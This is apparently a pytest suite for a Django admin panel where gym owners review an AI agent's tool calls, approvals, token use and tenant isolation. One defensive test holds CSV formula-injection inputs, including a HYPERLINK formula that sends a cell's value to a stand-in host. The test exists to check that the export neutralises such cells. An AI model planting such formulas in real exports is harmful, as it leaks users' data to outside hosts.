"""The owners' Panel in admin: its links list what it counts, another gym never
shows in a figure, link or CSV line, staff read it and cannot switch a tool,
and an owner's switch to automatic is made once, recorded in the history."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from html import unescape
from urllib.parse import urlsplit

import pytest
from django.contrib.admin.models import LogEntry
from django.urls import reverse

from agents.conversations import conversation_start
from agents.models import Message
from tests.approvals.panel_kit import Gym, gym_built
from tools.models import AgentToolSetting

pytestmark = pytest.mark.django_db
PANEL = "/admin/panel/"
HEADERS = {"X-Forwarded-Proto": "https"}


def _history(gym: Gym, marker: str) -> None:
    """Calls of every outcome, requests decided every way, messages, cases."""
    for status in ("ok", "failed", "unknown_outcome", "invalid_arguments", "duplicate"):
        gym.call(f"{marker}_tool", status, verification="unverifiable")
    gym.call("search_foods", "ok")
    gym.call("refund_payment", "pending_approval", request=True)
    for kind in ("approved", "superseded", "rejected", "expired"):
        gym.decided("refund_payment", kind, amount=Decimal("12.50"))
    gym.message("member")
    gym.message("step", model="gpt-5-mini", input_tokens=100, output_tokens=10)
    gym.handoff()
    gym.handoff(resolved=True)


@pytest.fixture
def two_gyms() -> tuple[Gym, Gym]:
    ours, theirs = gym_built("Gimnasio Alfa"), gym_built("Gimnasio Omega")
    _history(ours, "alfa")
    _history(theirs, "omega")
    return ours, theirs


def _links(html: str) -> list[str]:
    return [
        unescape(href)
        for href in re.findall(r'href="([^"]+)"', html)
        if href.startswith("/admin/")
    ]


def _text(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _figure_links(html: str) -> list[tuple[str, int]]:
    """Every number that is a link in the Panel's tables, with its address."""
    return [
        (unescape(href), int(value))
        for href, value in re.findall(r'<td><a href="([^"]+)">(\d+)</a></td>', html)
    ]


def test_panel_links_list_what_they_count(client, two_gyms):
    ours, _theirs = two_gyms
    client.force_login(ours.person("owner"))

    response = client.get(PANEL, {"days": "7"}, headers=HEADERS)

    assert response.status_code == 200
    html = response.content.decode()
    figures = _figure_links(html)
    cases = html.split('id="handoffs"')[1].split("</p>")[0]
    figures += [
        (unescape(href), int(value))
        for href, value in re.findall(r'<a href="([^"]+)">(\d+) ', cases)
    ]
    assert len(figures) > 20
    assert [value for _link, value in figures[-2:]] == [2, 1]  # opened, resolved
    for link, value in figures:
        listed = client.get(link, headers=HEADERS)
        assert listed.status_code == 200, link
        assert listed.context["cl"].result_count == value, link


def test_panel_never_shows_another_gym(client, two_gyms):
    """Tenant sweep: the page, every link on it, and the CSV hold nothing of
    the other gym, and asking for it is a 404."""
    ours, theirs = two_gyms
    client.force_login(ours.person("owner"))

    pages = [client.get(PANEL, {"days": days}, headers=HEADERS) for days in (7, 30, 90)]
    seen = [page.content.decode() for page in pages]
    for link in {link for html in seen for link in _links(html)}:
        path = urlsplit(link)
        if path.path.startswith("/admin/logout"):
            continue
        answer = client.get(link, headers=HEADERS)
        assert answer.status_code in (200, 302), link
        seen.append(_text(answer))
    export = client.get(
        reverse("panel:verification-csv"), {"days": "90"}, headers=HEADERS
    )
    seen.append(_text(export))

    for text in seen:
        assert "Omega" not in text
        assert "omega_tool" not in text
        assert str(theirs.conversation.pk) not in text
    assert "alfa_tool" in seen[0]
    foreign = client.get(PANEL, {"business": theirs.business.pk}, headers=HEADERS)
    assert foreign.status_code == 404
    foreign_csv = client.get(
        reverse("panel:verification-csv"),
        {"business": theirs.business.pk},
        headers=HEADERS,
    )
    assert foreign_csv.status_code == 404


def test_csv_has_one_line_per_call_of_the_period(client, two_gyms):
    ours, _theirs = two_gyms
    client.force_login(ours.person("staff"))

    response = client.get(
        reverse("panel:verification-csv"), {"days": "7"}, headers=HEADERS
    )

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert response["Content-Type"] == "text/csv"
    assert rows[0][:4] == ["created_at", "tool", "status", "verification"]
    # 5 + search + waiting request + 4 decided + a correction's new request.
    assert len(rows) - 1 == 12
    assert {row[4] for row in rows[1:]} == {str(ours.conversation.pk)}


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://example.com/?leak="&A1,"Ver")',
        "+1+cmd",
        "-2+3",
        "@SUM(1+1)",
        "\tx",
        "\r=1",
    ],
)
def test_no_csv_cell_is_a_formula(client, two_gyms, name):
    """An unknown tool's name, as the model proposed it, was written into a cell
    as it came: a spreadsheet evaluated ``=HYPERLINK(...)``. Every cell starting
    as a formula does is written after a single quote (OWASP)."""
    ours, _theirs = two_gyms
    ours.call(name, "unknown_tool")
    client.force_login(ours.person("owner"))

    response = client.get(
        reverse("panel:verification-csv"), {"days": "7"}, headers=HEADERS
    )

    rows = list(csv.reader(io.StringIO(_text(response))))
    cells = [cell for row in rows for cell in row]
    assert any(name in cell for cell in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{name} ({name})" in cells


@pytest.mark.parametrize("days", ["0", "31", "abc", ""])
def test_a_bad_period_is_refused(client, two_gyms, days):
    ours, _theirs = two_gyms
    client.force_login(ours.person("owner"))

    assert client.get(PANEL, {"days": days}, headers=HEADERS).status_code == 400


def test_someone_of_no_gym_is_refused(client, db):
    from tests.factories import UserFactory

    client.force_login(UserFactory())

    assert client.get(PANEL, headers=HEADERS).status_code == 403


def _ready(gym: Gym, approvals: int = 20, rejected: int = 0) -> AgentToolSetting:
    setting = gym.gate("refund_payment")
    for n in range(approvals):
        gym.decided("refund_payment", "approved", amount=Decimal(10 + n))
    for _ in range(rejected):
        gym.decided("refund_payment", "rejected", amount=Decimal("5"))
    return setting


def test_automatic_is_suggested_after_twenty_approvals_unchanged(client):
    gym = gym_built("Listo")
    setting = _ready(gym)
    client.force_login(gym.person("owner"))

    page = client.get(PANEL, headers=HEADERS).content.decode()

    assert "Automatic up to 29" in page or "Automático hasta 29" in page
    assert reverse("panel:switch", args=[setting.pk]) in page


@pytest.mark.parametrize(("approvals", "rejected"), [(19, 0), (25, 1)])
def test_automatic_is_not_suggested_too_soon(client, approvals, rejected):
    gym = gym_built("Pronto")
    setting = _ready(gym, approvals, rejected)
    client.force_login(gym.person("owner"))

    page = client.get(PANEL, headers=HEADERS).content.decode()

    assert reverse("panel:switch", args=[setting.pk]) not in page
    answer = client.post(
        reverse("panel:switch", args=[setting.pk]), {"business": gym.business.pk}
    )
    assert answer.status_code == 302
    setting.refresh_from_db()
    assert (setting.mode, setting.auto_limit) == ("gated", None)
    assert LogEntry.objects.count() == 0


def test_an_owner_switches_a_ready_tool(client):
    gym = gym_built("Dueña")
    setting = _ready(gym)
    owner = gym.person("owner")
    client.force_login(owner)
    address = reverse("panel:switch", args=[setting.pk])

    confirm = client.get(address, headers=HEADERS)
    assert confirm.status_code == 200
    assert 'method="post"' in confirm.content.decode()
    setting.refresh_from_db()
    assert setting.auto_limit is None  # asking to confirm changes nothing

    done = client.post(address, {"business": gym.business.pk}, headers=HEADERS)

    assert done.status_code == 302
    setting.refresh_from_db()
    assert (setting.mode, setting.auto_limit) == ("gated", Decimal("29.00"))
    entry = LogEntry.objects.get()
    assert (entry.user_id, entry.object_id) == (owner.pk, str(gym.agent.pk))
    again = client.post(address, {"business": gym.business.pk}, headers=HEADERS)
    assert again.status_code == 302
    assert LogEntry.objects.count() == 1  # already switched: nothing more


def test_a_tool_without_an_amount_becomes_automatic(client):
    gym = gym_built("Sin importe")
    setting = gym.gate("freeze_membership")
    for _ in range(20):
        gym.decided("freeze_membership", "approved")
    client.force_login(gym.person("owner"))

    client.post(
        reverse("panel:switch", args=[setting.pk]),
        {"business": gym.business.pk},
        headers=HEADERS,
    )

    setting.refresh_from_db()
    assert (setting.mode, setting.auto_limit) == ("auto", None)


def test_staff_read_the_panel_and_cannot_switch(client, row_counts):
    gym = gym_built("Personal")
    setting = _ready(gym)
    client.force_login(gym.person("staff"))
    address = reverse("panel:switch", args=[setting.pk])

    page = client.get(PANEL, headers=HEADERS)
    before = row_counts()
    asked = client.get(address, headers=HEADERS)
    posted = client.post(address, {"business": gym.business.pk}, headers=HEADERS)

    assert page.status_code == 200
    assert address not in page.content.decode()
    assert (asked.status_code, posted.status_code) == (403, 403)
    assert row_counts() == before
    assert LogEntry.objects.count() == 0
    setting.refresh_from_db()
    assert setting.auto_limit is None


def test_an_owner_cannot_switch_another_gym_s_tool(client):
    ours, theirs = gym_built("Nuestro"), gym_built("Suyo")
    setting = _ready(theirs)
    client.force_login(ours.person("owner"))

    answer = client.post(
        reverse("panel:switch", args=[setting.pk]),
        {"business": ours.business.pk},
        headers=HEADERS,
    )

    assert answer.status_code == 404
    setting.refresh_from_db()
    assert setting.auto_limit is None


def test_the_header_links_to_the_panel(client):
    gym = gym_built("Cabecera")
    client.force_login(gym.person("staff"))

    page = client.get("/admin/", headers=HEADERS).content.decode()

    assert f'href="{PANEL}"' in page


def test_days_table_covers_the_period(client):
    gym = gym_built("Días")
    client.force_login(gym.person("owner"))

    page = client.get(PANEL, {"days": "90"}, headers=HEADERS).content.decode()

    table = page.split('id="days-table"')[1].split("</table>")[0]
    assert table.count('<th scope="row">') == 90
    assert datetime.date.today().year  # the page renders with no activity at all


def test_readiness_says_how_staff_corrected(client):
    gym = gym_built("Correcciones")
    gym.gate("refund_payment")
    gym.decided("refund_payment", "superseded", difference={"amount": [20, 15]})
    gym.decided("refund_payment", "approved", amount=Decimal("8"))
    client.force_login(gym.person("owner"))

    page = client.get(PANEL, headers=HEADERS).content.decode()

    row = page.split('id="readiness-table"')[1].split("</tr>")[1]
    cells = re.findall(r"<td>(.*?)</td>", row, re.S)
    assert [cell.strip() for cell in cells[1:5]] == ["1", "1 (amount ×1)", "0", "8,00"]


def _day_links(html: str) -> list[tuple[str, int]]:
    """The days table's members' turns, model steps and tokens: each links to
    the conversations that had them that day."""
    return [
        (unescape(href), int(value))
        for href, value in re.findall(
            r'<a href="([^"]+)" data-lists="conversations">(\d+)</a>', html
        )
    ]


def test_turns_and_steps_link_to_the_conversations_that_had_them(client, two_gyms):
    ours, theirs = two_gyms
    ours.message("member")  # a second turn in the same conversation
    quiet = conversation_start(agent=ours.agent, member=ours.member)
    Message.objects.create(conversation=quiet, role="notice", text="notice")
    client.force_login(ours.person("owner"))

    html = client.get(PANEL, {"days": "7"}, headers=HEADERS).content.decode()

    links = [(link, value) for link, value in _day_links(html) if value]
    # today: 2 turns, 1 step, its input and output tokens
    assert sorted(value for _link, value in links) == [1, 2, 10, 100]
    for link, _value in links:
        listed = client.get(link, headers=HEADERS)
        assert listed.status_code == 200, link
        assert [c.pk for c in listed.context["cl"].result_list] == [
            ours.conversation.pk
        ], link
    empty = next(link for link, value in _day_links(html) if not value)
    assert client.get(empty, headers=HEADERS).context["cl"].result_count == 0
    assert theirs.conversation.pk not in {
        c.pk
        for link, _value in links
        for c in client.get(link, headers=HEADERS).context["cl"].result_list
    }


def _chart(page: str, name: str) -> str:
    return page.split(f'id="{name}-chart"')[1].split("</figure>")[0]


def test_each_charts_title_comes_before_its_chart(client, two_gyms):
    ours, _theirs = two_gyms
    client.force_login(ours.person("owner"))

    page = client.get(PANEL, headers=HEADERS).content.decode()

    for name in ("activity", "tokens", "cost", "calls"):
        chart = _chart(page, name)
        assert chart.index("<figcaption>") < chart.index("<svg"), name


@pytest.mark.parametrize(
    ("provider", "tokens", "cost"),
    [
        (
            "offline",
            "The offline demo model answers here, and it uses no tokens",
            "The offline demo model answers here, and it costs nothing",
        ),
        ("openai", "No tokens were used in this period.", "Nothing was spent"),
    ],
)
def test_a_period_without_tokens_says_why_instead_of_an_empty_axis(
    client, settings, provider, tokens, cost
):
    settings.LANGUAGE_CODE = "en"
    settings.OPENAI_API_KEY = "sk-test"
    gym = gym_built("Sin tokens")
    gym.agent.provider = provider
    gym.agent.save(update_fields=["provider"])
    gym.message("member")
    client.force_login(gym.person("owner"))

    page = client.get(PANEL, headers=HEADERS).content.decode()

    assert tokens in _chart(page, "tokens") and "<svg" not in _chart(page, "tokens")
    assert cost in _chart(page, "cost") and "<svg" not in _chart(page, "cost")
    assert "<svg" in _chart(page, "activity")


def test_tokens_used_are_charted(client, two_gyms):
    """The real model's steps of the history used tokens: drawn, no note."""
    ours, _theirs = two_gyms
    client.force_login(ours.person("owner"))

    page = client.get(PANEL, headers=HEADERS).content.decode()

    assert "<svg" in _chart(page, "tokens") and "chart-note" not in page
